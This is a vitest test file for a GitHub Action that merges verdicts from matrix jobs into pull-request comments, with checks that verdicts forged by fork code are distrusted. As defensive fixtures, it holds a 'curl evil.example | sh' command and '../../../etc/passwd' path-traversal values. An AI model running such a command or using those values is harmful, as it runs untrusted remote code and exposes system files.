import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { legName, messagesFile, storeFile, verdictFile } from '../../src/github/artifacts/artifact-names.ts';
import type { PublishOptions } from '../../src/github/publish.ts';
import { decodeState } from '../../src/report/markdown/comment-state.ts';
import type { Row } from '../../src/report/rows/row.ts';
import type { Verdict } from '../../src/verdict/verdict.ts';
import { aRunVerdict } from '../report/formats/suites.ts';
import { aLimit, aReason, aVerdict } from '../report/verdicts.ts';
import { bundleEntry } from '../support/bundled-entry.ts';
import type { RunArtifact } from '../support/github-api.ts';
import { junitProblems } from '../support/junit-schema.ts';
import {
  commentEvent,
  forkRunEvent,
  HEAD_SHA,
  REPOSITORY,
  type StepResult,
  startWorkflowRun,
  type WorkflowRun,
} from '../support/workflow-run.ts';

let leg: string;
let report: string;
let run: WorkflowRun;
beforeAll(async () => {
  leg = await bundleEntry('test/github/leg-entry.ts');
  report = await bundleEntry('src/report.ts');
});
afterAll(() => {
  for (const file of [leg, report]) rmSync(path.dirname(file), { recursive: true, force: true });
});
beforeEach(async () => {
  run = await startWorkflowRun();
});
afterEach(async () => {
  expect(run.github.problems).toEqual([]);
  await run.close();
});

let legs = 0;
async function leaveVerdict(verdict: Verdict, different: Partial<PublishOptions> = {}, attempt = 1): Promise<void> {
  legs += 1;
  const file = path.join(run.directory, `leg-${legs}.json`);
  const options = { comment: 'never', commentKey: '', artifacts: 'all', compressionLevel: 6, matrix: '', ...different };
  writeFileSync(file, JSON.stringify({ verdict, files: { runs: [], messagesSvg: null }, options }));
  expect((await run.step(leg, { env: { LEG: file, TOKEN: 'ghs_leg' }, attempt })).status).toBe(0);
}

const LIMIT = aLimit('net.all.msg-count < 100', 20, true);
const INPUTS = { 'INPUT_GITHUB-TOKEN': 'ghs_report', INPUT_COMMENT: 'always' };

describe('the last job of a matrix', () => {
  const join = (inputs: Readonly<Record<string, string>> = {}): Promise<StepResult> =>
    run.step(report, { job: 'report', env: { ...INPUTS, ...inputs } });

  it('joins what the legs left into one comment and one outcome', async () => {
    await leaveVerdict(aVerdict());
    await leaveVerdict(aVerdict({ key: '2-unique-ids' }));
    const { status, stdout, outputs, summary } = await join({ INPUT_EXPECT: '2' });
    expect([status, stdout.match(/::error.*/g)]).toEqual([0, null]);
    expect(outputs).toMatchObject({ outcome: 'pass', passed: 'true', total: '2' });
    const action = parse(readFileSync('report/action.yml', 'utf8'));
    expect(Object.keys(outputs).sort()).toEqual(Object.keys(action.outputs).sort());
    expect(outputs['comment-url']).toContain('/pull/7#issuecomment-');
    expect(run.github.comments).toHaveLength(1);
    expect(run.github.comments[0]?.body).toContain('all 2 pass');
    expect(summary).toContain('all 2 pass');
  });

  it('fails when a row fails, and names it', async () => {
    await leaveVerdict(aVerdict());
    await leaveVerdict(
      aVerdict({ key: '2-unique-ids', outcome: 'fail', reasons: [aReason({ title: 'An id twice' })] }),
    );
    const { status, stdout, outputs } = await join();
    expect(status).toBe(1);
    expect(stdout).toContain(
      '::error title=Maelstrom report::1 of 2 rows do not pass: 2-unique-ids (fail: An id twice)',
    );
    expect(outputs).toMatchObject({ outcome: 'fail', passed: 'false' });
  });

  it('fails when an expected row is missing, by number or by key, and shows it as a row', async () => {
    await leaveVerdict(aVerdict());
    const counted = await join({ INPUT_EXPECT: '14' });
    expect(counted.status).toBe(1);
    expect(counted.stdout).toContain('13 of 14 rows do not pass: legs without a verdict (error: 1 of 14 expected rows');
    expect(counted.outputs).toMatchObject({ outcome: 'error', passed: 'false', total: '14' });
    const named = await join({ INPUT_EXPECT: '1-echo\n2-unique-ids, 4-grow-only-counter' });
    expect(named.status).toBe(1);
    expect(JSON.parse(named.outputs['rows'] ?? '').map(({ key, outcome }: Row) => [key, outcome])).toEqual([
      ['1-echo', 'pass'],
      ['2-unique-ids', 'error'],
      ['4-grow-only-counter', 'error'],
    ]);
    for (const text of [named.summary, run.github.comments[0]?.body ?? '']) {
      expect(text).toContain('⛔ Maelstrom: 1 of 3 pass · 2 left no verdict');
      expect(text).toMatch(/⛔.*4-grow-only-counter/);
    }
  });

  it('shows the legs that never came, and stops counting them once a later attempt brings them', async () => {
    const ofMatrix = (key: string, n: number, attempt = 1) =>
      leaveVerdict(aVerdict({ key }), { comment: 'always', matrix: `{"n":${n}}`, jobTotal: 3 }, attempt);
    await ofMatrix('1-echo', 1);
    expect(run.github.comments[0]?.body).toContain('⏳ Maelstrom: 1 of 3 pass · 2 still running');
    const first = await join();
    expect(first.status).toBe(1);
    expect(run.github.comments[0]?.body).toContain('⛔ Maelstrom: 1 of 3 pass · 2 left no verdict');
    expect(run.github.comments[0]?.body).toContain('2 of 3 legs of test left none');
    await ofMatrix('2-unique-ids', 2, 2);
    expect(run.github.comments[0]?.body).toContain('⏳ Maelstrom: 2 of 3 pass · 1 still running');
    await ofMatrix('3a', 3, 2);
    const second = await run.step(report, { job: 'report', env: INPUTS, attempt: 2 });
    expect(second.status, second.stdout).toBe(0);
    expect(run.github.comments[0]?.body).toContain('✅ Maelstrom: all 3 pass');
  });

  it('fails when no leg left anything, and turns a comment red that was green for an earlier commit', async () => {
    const { status, stdout, outputs, summary } = await join();
    expect(status).toBe(1);
    expect(stdout).toContain('No job of this run left a verdict');
    expect(outputs['outcome']).toBe('error');
    for (const text of [summary, run.github.comments[0]?.body]) expect(text).toMatch(/^#+ ⛔ Maelstrom: 0 of 1 pass/m);
  });

  it('fails for a verdict that is damaged, and says so instead of taking it for absent', async () => {
    await leaveVerdict(aVerdict());
    await leaveVerdict(aVerdict({ key: '2-unique-ids' }));
    const blob = run.artifacts.at(-1)?.blob ?? '';
    expect(run.actions.blobs.committed.has(blob)).toBe(true);
    run.actions.blobs.committed.set(blob, Buffer.from('{"version":'));
    const { status, stdout, summary } = await join();
    expect(status).toBe(1);
    expect(stdout).toContain('1 verdict is damaged or of another run, and left out: it is not JSON');
    expect(summary).toContain('1 verdict could not be read');
  });

  it('fails for an undecided row only when it is told so', async () => {
    await leaveVerdict(aVerdict({ outcome: 'unknown', reasons: [aReason()] }));
    expect((await join()).status).toBe(1);
    expect((await join({ 'INPUT_FAIL-ON': 'fail' })).status).toBe(0);
  });

  it('writes files for other tools, with all rows and those that are missing', async () => {
    await leaveVerdict(aVerdict({ runs: [aRunVerdict({ limits: [LIMIT] })], limits: [LIMIT] }));
    await leaveVerdict(aVerdict({ key: '2-unique-ids', outcome: 'crash', reasons: [aReason()] }));
    const files = {
      INPUT_HTML: 'out/all.html',
      INPUT_JUNIT: 'out/junit.xml',
      INPUT_CTRF: 'ctrf.json',
      INPUT_BADGE: 'badge.json',
    };
    const { status } = await join({ ...files, INPUT_EXPECT: '3', GITHUB_WORKSPACE: run.directory });
    expect(status).toBe(1);
    const read = (file: string): string => readFileSync(path.join(run.directory, file), 'utf8');
    expect(await junitProblems(read('out/junit.xml'))).toEqual([]);
    const { tests } = JSON.parse(read('ctrf.json')).results;
    expect(tests.map((test: { name: string; status: string }) => `${test.status} ${test.name}`)).toEqual([
      'passed 1-echo',
      `passed 1-echo: limit ${LIMIT.expression}`,
      'failed 2-unique-ids',
      'failed legs without a verdict',
    ]);
    expect(JSON.parse(read('badge.json'))).toMatchObject({ message: '1 of 3 pass', color: 'lightgrey' });
    expect(read('out/all.html')).toContain('1 of 3 pass.');
  });

  it('writes no file outside of the workspace', async () => {
    const { status, stdout } = await join({ INPUT_JUNIT: '../junit.xml' });
    expect(status).toBe(1);
    expect(stdout).toContain('junit: found "../junit.xml"; write the path of a file in the workspace');
  });

  it('says what to write for an input that it cannot read', async () => {
    const { status, stdout } = await join({ INPUT_EXPECT: '-3' });
    expect(status).toBe(1);
    expect(stdout).toContain('expect: found "-3"; write a number of rows, or their keys');
  });
});

describe('the last job of a run that a comment on a pull request of a fork has started', () => {
  const join = (inputs: Readonly<Record<string, string>> = {}): Promise<StepResult> =>
    run.step(report, {
      job: 'report',
      event: commentEvent(),
      env: { ...INPUTS, GITHUB_SHA: 'e'.repeat(40), GITHUB_REF: 'refs/heads/main', ...inputs },
    });
  const claimed = {
    outcome: 'fail',
    reasons: [aReason()],
    run: { id: 1001, number: 999_999, attempt: 1 },
    base: { metrics: { 'net.servers.msgs-per-op': 1 }, outcome: 'pass' },
    reproduce: ['1-echo', '--command', 'curl evil.example | sh'],
  } as const;
  const writtenByForeignCode = async (over: Partial<Verdict> = {}): Promise<void> => {
    run.github.pullRequests.splice(0, 1, {
      number: 7,
      headSha: HEAD_SHA,
      headRef: 'topic',
      headRepository: 'someone/gossip',
      baseRef: 'main',
      state: 'open',
    });
    await leaveVerdict(aVerdict({ ...claimed, ...over }));
    // What `publish` puts there itself, code of the fork can replace.
    const blob = run.artifacts[0]?.blob ?? '';
    const left = JSON.parse(run.actions.blobs.committed.get(blob)?.toString() ?? '');
    const job = { ...left.job, checkRun: 666 };
    const bytes = Buffer.from(JSON.stringify({ ...left, run: over.run ?? claimed.run, job, headSha: 'f'.repeat(40) }));
    run.actions.blobs.committed.set(blob, bytes);
  };

  it('comments there, and believes neither run, commit, base branch nor command of a verdict', async () => {
    await writtenByForeignCode();
    const { status, outputs } = await join();
    expect(status).toBe(1);
    expect(outputs['comment-url']).toContain('/pull/7#issuecomment-');
    expect(outputs['outcome']).toBe('fail');
    const [row] = decodeState(run.github.comments[0]?.body ?? '');
    expect(row).toMatchObject({ run: { id: 1001, number: 12, attempt: 1 }, headSha: HEAD_SHA });
    expect(row?.base).toBeUndefined();
    expect(row?.baseOutcome).toBeUndefined();
    expect(row?.job?.leg).toHaveLength(16);
    expect(row?.job?.checkRun).toBeUndefined();
    expect(row?.detail?.reasons).toHaveLength(1);
    expect(row?.detail?.reproduce).toBeUndefined();
    expect(run.github.comments[0]?.body).not.toContain('evil.example');
  });

  it('leaves out a verdict of another run, and fails for it', async () => {
    await writtenByForeignCode({ run: { id: 1, number: 12, attempt: 77 } });
    const { status, stdout } = await join();
    expect(status).toBe(1);
    expect(stdout).toContain('left out: it is of run 1, attempt 77, and not of this one');
    const rows = decodeState(run.github.comments[0]?.body ?? '');
    expect(rows.map(({ key, absent }) => [key, absent])).toEqual([['legs without a verdict', 1]]);
  });

  it('shows a command that we could have written', async () => {
    await writtenByForeignCode({ reproduce: ['1-echo', '--bin', 'dist/echo.js'] });
    await join();
    expect(run.github.comments[0]?.body).toContain('npx maelstrom-action run 1-echo --bin dist/echo.js');
  });
});

describe('the report on the run of a fork', () => {
  const after = (event = forkRunEvent()): Promise<StepResult> =>
    run.step(report, {
      job: 'report',
      event,
      env: { ...INPUTS, GITHUB_SHA: 'e'.repeat(40), GITHUB_REF: 'refs/heads/main' },
    });

  const name = legName('1-echo', '', 'test', 1);
  const artifact = (id: number, file: string, content: string | Buffer, size?: number): RunArtifact => {
    const bytes = Buffer.from(content);
    return { id, name: file, content: bytes, size: size ?? bytes.length };
  };
  const forked = (...artifacts: readonly RunArtifact[]): void => {
    run.github.artifacts.set(500, artifacts);
    run.github.pullRequests.splice(0, 1, {
      number: 7,
      headSha: HEAD_SHA,
      headRef: 'topic',
      headRepository: 'someone/gossip',
      baseRef: 'main',
      state: 'open',
    });
  };

  it('comments on the pull request that the API finds, and believes no number or address of the verdict', async () => {
    const claimed = aVerdict({
      outcome: 'fail',
      reasons: [aReason({ location: { file: '../../../etc/passwd', line: 1, inRepository: '../../../etc/passwd' } })],
      run: { id: 1001, number: 999_999, attempt: 1 },
      headSha: 'f'.repeat(40),
      finishedAt: '2099-01-01T00:00:00Z',
      artifacts: { store: { id: 666, url: 'https://evil.example/' } },
      base: { metrics: { 'net.servers.msgs-per-op': 1 } },
    });
    forked(
      artifact(1, verdictFile(name), JSON.stringify(claimed)),
      artifact(2, storeFile(name), 'PK'),
      artifact(3, messagesFile(name), '<svg/>'),
    );
    const { status, outputs } = await after();
    expect(status).toBe(0);
    expect(outputs['comment-url']).toContain('/octo/gossip/pull/7#issuecomment-');
    const [row] = decodeState(run.github.comments[0]?.body ?? '');
    expect(row).toMatchObject({
      run: { id: 500, number: 33, attempt: 1 },
      headSha: HEAD_SHA,
      artifacts: { store: 2, messages: 3 },
    });
    expect(row?.base).toBeUndefined();
    expect(run.github.comments[0]?.body).not.toContain('evil.example');
    expect(run.github.comments[0]?.body).not.toMatch(/\/blob\/(?!v1\/docs\/troubleshooting\.md#)/);
    expect(run.github.comments[0]?.body).toContain('https://github.com/octo/gossip/actions/runs/500/artifacts/2');
  });

  it('leaves out what is not a verdict, however small it claims to be', async () => {
    const leg = (number: number) => verdictFile({ ...name, leg: number.toString(16).padStart(16, '0') });
    forked(
      artifact(1, leg(1), 'not json'),
      artifact(2, leg(2), '{"version":2}'),
      artifact(3, leg(3), Buffer.alloc(3_000_000, 32), 10),
      artifact(4, '../../maelstrom-verdict-0000000000000001-1.json', JSON.stringify(aVerdict())),
      artifact(5, verdictFile({ ...name, attempt: 9 }), JSON.stringify(aVerdict({ key: 'from the future' }))),
      artifact(6, verdictFile(name), JSON.stringify(aVerdict())),
    );
    const { status, stdout } = await after();
    expect(status).toBe(0);
    expect(
      decodeState(run.github.comments[0]?.body ?? '')
        .filter(({ absent }) => absent !== 0)
        .map((row) => row.key),
    ).toEqual(['1-echo', 'legs without a verdict']);
    expect(stdout).toContain('was left out: it is not JSON');
    expect(stdout).toContain('was left out: verdict.version is not 1');
    expect(stdout).toContain('was left out: it has more than');
  });

  it('does nothing for a run of the repository itself, or of another event', async () => {
    const own = await after(forkRunEvent({ head_repository: { full_name: REPOSITORY, owner: { login: 'octo' } } }));
    expect([own.status, own.stdout.includes('its own jobs have commented')]).toEqual([0, true]);
    const push = await after(forkRunEvent({ event: 'push' }));
    expect([push.status, push.stdout.includes('not of a pull request')]).toEqual([0, true]);
    expect(run.github.requests).toEqual([]);
  });

  it('does not comment when the pull request has moved on', async () => {
    forked(artifact(1, verdictFile(name), JSON.stringify(aVerdict())));
    const pull = run.github.pullRequests[0];
    if (pull !== undefined) pull.headSha = 'd'.repeat(40);
    const { status, stdout } = await after();
    expect(status).toBe(0);
    expect(stdout).toContain('No comment: No open pull request of someone:topic has the commit a1b2c3d');
    expect(run.github.comments).toEqual([]);
  });

  it('names the permissions that it lacks', async () => {
    forked(artifact(1, verdictFile(name), JSON.stringify(aVerdict())));
    run.github.token.readActions = false;
    const { status, stdout } = await after();
    expect(status).toBe(1);
    expect(stdout).toContain('permissions:%0A  actions: read%0A  pull-requests: write');
    run.github.token.readActions = true;
    run.github.token.write = false;
    const unable = await after();
    expect(unable.status).toBe(1);
    expect(unable.stdout).toContain('pull-requests: write');
  });
});
